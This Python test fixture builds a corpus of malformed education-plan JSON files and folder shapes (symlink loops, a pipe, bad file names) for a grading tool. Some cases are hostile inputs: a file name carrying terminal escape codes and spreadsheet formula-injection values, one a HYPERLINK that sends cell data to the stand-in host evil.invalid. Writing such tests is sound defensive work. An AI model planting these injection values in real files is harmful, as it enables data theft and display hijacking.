"""The fault corpus (issue 12's probe, kept): files whose values or names once cost a whole batch, and the
folder shapes that once hid PEPs or hung collection. Built on demand into a temporary folder.

Each case says what the batch must make of it: a row with a reading reason, a grade, or a skipped row.
"""
from __future__ import annotations

import json
import os
from pathlib import Path

from pepqa.checks.baseline import BASELINE, apply_patch

CHILD = "Jayden Clarke"


def _pep(patch: dict | None = None) -> dict:
    return apply_patch(BASELINE, {"child.name": CHILD, **(patch or {})})


def _write(folder: Path, name: str | bytes, text: str) -> Path:
    """``name`` as bytes writes a file name that is not UTF-8."""
    if isinstance(name, bytes):
        target = os.path.join(os.fsencode(folder), name)
        with open(target, "w", encoding="utf-8") as f:
            f.write(text)
        return Path(os.fsdecode(target))
    p = folder / name
    p.write_text(text, encoding="utf-8")
    return p


# (file name, JSON text, what the row must say: ("unreadable", reason words) or ("grade", None))
def value_cases() -> list[tuple[str | bytes, str, tuple[str, str | None]]]:
    base = json.dumps(_pep())
    nan = base.replace('"pp_requested": 430.0', '"pp_requested": NaN')
    assert nan != base, "baseline PEP must hold pp_requested 430.0"
    return [
        ("nan.json", nan, ("unreadable", "NaN is not a number")),
        ("inf.json", base.replace('"pp_requested": 430.0', '"pp_requested": Infinity'), ("unreadable", "Infinity")),
        ("huge.json", base.replace('"pp_requested": 430.0', '"pp_requested": 1e308'), ("unreadable", "out of range")),
        ("digits.json", base.replace('"pp_requested": 430.0', '"pp_requested": ' + "9" * 400),
         ("unreadable", "'pp_requested'")),
        ("year9999.json", json.dumps(_pep({"meeting_date": "9999-12-31"})), ("unreadable", "year 9999")),
        ("duplicate.json", base[:-1] + ', "pp_requested": 10.0}', ("unreadable", "same key appears twice")),
        ("key-is-a-name.json", json.dumps(_pep({"extra": None})).replace('"extra": null', f'"{CHILD}": 1'),
         ("unreadable", "(a key)")),
        ("negative.json", json.dumps(_pep({"pp_spend[0].cost": -1e6})), ("grade", "PP013")),
        (b"caf\xe9-latin1.json", base, ("grade", None)),
        ("bell\x07and\x1b]0;pwned\x07title.json", base, ("grade", None)),
        ("cr\r=HYPERLINK(\"http-x\").json", base, ("grade", None)),
        ("formula.json", json.dumps(_pep({"school.name": 'Hill\r=HYPERLINK("http://evil.invalid/?"&A1,"x")'})),
         ("grade", None)),
    ]


def build_values(folder: Path) -> dict[str, tuple[str, str | None]]:
    """Write the value and name cases; returns {file name as pepqa shows it: expectation}."""
    from pepqa.safe import shown

    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, text, expect in value_cases():
        p = _write(folder, name, text)
        out[shown(p.name)] = expect
    return out


def build_paths(folder: Path) -> dict[str, str]:
    """Folder shapes: an unsupported file, a link to a folder, two links pointing at each other, a pipe.
    Returns {path relative to folder: words the skipped row must hold}."""
    (folder / "a" / "b").mkdir(parents=True, exist_ok=True)
    (folder / "elsewhere").mkdir(exist_ok=True)
    _write(folder / "a", "pep.json", json.dumps(_pep()))
    _write(folder / "elsewhere", "linked.json", json.dumps(_pep()))
    _write(folder / "a" / "b", "minutes.odt", "not a PEP")
    _write(folder, "notes.txt", "not a PEP")
    os.symlink(folder / "elsewhere", folder / "a" / "link-to-elsewhere")
    os.symlink(folder / "a", folder / "a" / "b" / "loop-up")   # a/b/loop-up -> a (a loop)
    os.symlink(folder / "a" / "b", folder / "elsewhere" / "loop-down")
    os.mkfifo(folder / "a" / "pipe.json")
    return {
        "a/link-to-elsewhere": "link to another folder", "a/b/loop-up": "link to another folder",
        "elsewhere/loop-down": "link to another folder", "a/b/minutes.odt": "not a PEP export",
        "notes.txt": "not a PEP export", "a/pipe.json": "not a regular file",
    }
